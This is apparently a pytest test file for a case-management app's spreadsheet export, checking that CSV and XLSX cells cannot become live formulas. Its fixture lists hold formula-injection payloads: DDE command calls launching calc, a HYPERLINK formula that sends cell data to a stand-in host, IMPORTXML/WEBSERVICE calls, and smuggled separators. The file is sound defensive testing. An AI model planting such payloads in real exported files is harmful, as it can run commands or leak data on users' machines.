"""No cell that leaves the application can become a formula, in whatever program it is opened."""

import csv
import io
import itertools
import re
import unicodedata
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from casework.sheets import BOM, Line, Sheet, defused, to_csv, to_xlsx

SIGNS = [*"=+-@|%", *"＝＋－＠｜％", *"﹦﹢﹣﹫﹪", *"⁼⁺₌₊", "−"]
BEFORE = ["", " ", "   ", BOM, "\u00a0", "\u3000", "\u200f", "\u200b", "\u202e", " \u200e ", "\t", "\n", "\r\n", "\0"]
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example?\"&A1,\"open\")", "=IMPORTXML(\"http://x.example\",\"//a\")", "=WEBSERVICE(A1)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "%0A-3+3", "|calc", "=A1", "==1+1", "=-1", "-1+1", "+963 944 000 000",
    "=أحمد", "=1+1\";=1+1", "'=1+1", "''=1+1", "\"=1+1\"", "\"\"=1+1", "=\u200f1+1", "=\t1+1",
]  # fmt: skip
SMUGGLED = [
    f"{head}{separator}{gap}{formula}"
    for head, separator, gap, formula in itertools.product(
        ["", "a", "\"a\"", "أ"], [";", "\t", "\n", "\r", "\r\n"], ["", " ", "\u200f"], ["=1+1;b", "@SUM(A1)\t"]
    )
]  # fmt: skip
CONTROLS = [chr(code) + rest for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)] for rest in ("", "=1+1", "text")]
ODD = ["\ud800", "\ufffe", "_x003D_1+1", "x" * 40_000, "=" * 40_000, "#REF!", "#N/A", "TRUE", "1e400", "nan"]
HOSTILE = [
    *(before + sign + rest for before, sign, rest in itertools.product(BEFORE, SIGNS, ["1+1", "SUM(A1:A2)"])),
    *FORMULAS, *SMUGGLED, *CONTROLS, *ODD,
]  # fmt: skip


def is_live(cell: str) -> bool:
    """Whether a spreadsheet could take the text for a formula: written apart from the product's own way of asking."""
    shown = cell.lstrip().lstrip("\ufeff\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e").lstrip()
    first = unicodedata.normalize("NFKC", shown[:1])[:1]
    number = re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None
    return not number and (first in tuple("=+-@|%\u2212") or any(unicodedata.category(c) == "Cc" for c in cell[:1]))


def test_there_are_enough_hostile_strings() -> None:
    assert len(set(HOSTILE)) >= 200


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_cell_of_csv_is_live_whatever_separates_cells(delimiter: str) -> None:
    for hostile in HOSTILE:
        written = to_csv([("before", hostile, "after")])
        for line in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter):
            for cell in line:
                assert not is_live(cell) or delimiter == "|", (hostile, cell)


def test_no_piece_between_separators_is_live_where_quotes_are_not_understood() -> None:
    for hostile in HOSTILE:
        for piece in re.split(r"[;\t\r\n]", to_csv([(hostile,)])):
            assert not is_live(piece.strip('"')), (hostile, piece)


def test_csv_is_read_back_as_one_row_of_as_many_cells() -> None:
    for hostile in HOSTILE:
        read = list(csv.reader(io.StringIO(to_csv([("a", hostile, "b")]), newline="")))
        assert [len(line) for line in read] == [3]


def test_no_cell_of_the_workbook_is_live() -> None:
    written = to_xlsx([Sheet("hostile", [("text",), *((hostile,) for hostile in HOSTILE)])])
    sheet = openpyxl.load_workbook(io.BytesIO(written)).worksheets[0]
    for cell in itertools.chain.from_iterable(sheet.iter_rows()):
        assert cell.data_type in ("s", "inlineStr", "n"), cell.value  # "n" is an empty cell
        assert cell.value is None or (isinstance(cell.value, str) and not is_live(cell.value)), cell.value
    assert sheet.max_row == len(HOSTILE) + 1


def test_the_workbook_holds_no_formula_link_or_macro() -> None:
    written = to_xlsx([Sheet("hostile", [("text",), *((hostile,) for hostile in HOSTILE)])])
    with zipfile.ZipFile(io.BytesIO(written)) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            for live in (b"<f>", b"<f ", b"externalLink", b"vbaProject"):
                assert live not in content, name


@pytest.mark.parametrize("text", ["", "Idlib", "إدلب", "a-b", "5 = 5", "حمص، حماة", "-5", "12.50", "0", "D-7K3M-9QTA"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("+963 944", "'+963 944"),
        ("-5+5", "'-5+5"),
        ("＝1", "'＝1"),
        ("a;=1+1", "a;'=1+1"),
        ("a\n =1+1", "a\n '=1+1"),
        ("a\0b", "a␀b"),
        ("\0=1", "'␀=1"),
    ],
)
def test_what_could_be_a_formula_gets_an_apostrophe(text: str, written: str) -> None:
    assert defused(text) == written


def test_numbers_stay_numbers() -> None:
    lines: list[Line] = [("a", "b", "c", "d"), (-5, 1160, 2.5, Decimal("7.25"))]
    assert to_csv(lines) == "a,b,c,d\n-5,1160,2.5,7.25\n"
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([Sheet("s", lines)]))).worksheets[0]
    assert [cell.data_type for cell in sheet[2]] == ["n"] * 4
    assert [cell.value for cell in sheet[2]] == [-5, 1160, 2.5, 7.25]


def test_days_moments_truths_and_nothing() -> None:
    line = (date(2022, 5, 5), datetime(2022, 5, 5, 11, 30, tzinfo=UTC), True, False, None)
    assert to_csv([line]) == "2022-05-05,2022-05-05T11:30:00+00:00,yes,no,\n"
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([Sheet("s", [("a",) * 5, line])]))).worksheets[0]
    assert sheet["B2"].value == "2022-05-05T11:30:00+00:00"
    assert sheet["E2"].value is None


def test_csv_for_spreadsheets_says_that_it_is_unicode() -> None:
    assert to_csv([("إدلب", 6)], bom=True) == "\ufeffإدلب,6\r\n"


def test_a_cell_longer_than_a_sheet_takes_is_cut_visibly() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([Sheet("s", [("x" * 40_000,)])]))).worksheets[0]
    assert len(sheet["A1"].value) == 32_767
    assert sheet["A1"].value.endswith("…")


def test_what_looks_like_an_escape_of_the_format_is_kept_as_text() -> None:
    assert "_x005F_x003D_1+1" in str(
        openpyxl.load_workbook(io.BytesIO(to_xlsx([Sheet("s", [("_x003D_1+1",)])]))).worksheets[0]["A1"].value
    )


@pytest.mark.parametrize("name", ["", "'", "a/b:c*d?e[f]\\g", "x" * 100, "History"])
def test_a_sheet_has_a_name_that_spreadsheets_allow(name: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx([Sheet(name, [("a",)])])))
    assert 1 <= len(book.sheetnames[0]) <= 31
